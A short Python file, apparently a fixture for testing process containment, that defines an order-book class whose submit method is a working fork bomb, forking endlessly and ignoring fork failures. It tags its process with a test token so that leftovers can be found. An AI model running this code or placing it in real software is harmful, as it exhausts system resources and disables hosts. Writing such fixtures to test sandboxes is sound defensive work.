"""Fork bomb: every process forks for ever, and keeps trying when fork fails."""

import contextlib
import os

TOKEN = "__TOKEN__"  # the test puts a unique name here, to find leftover processes by
with open("/proc/self/comm", "w") as _comm:
    _comm.write(TOKEN)


class OrderBook:
    def submit(self, order_id, side, price, quantity):
        while True:
            with contextlib.suppress(OSError):
                os.fork()

    def cancel(self, order_id):
        return False

    def best_bid(self):
        return None

    def best_ask(self):
        return None

    def depth(self, side, levels):
        return []
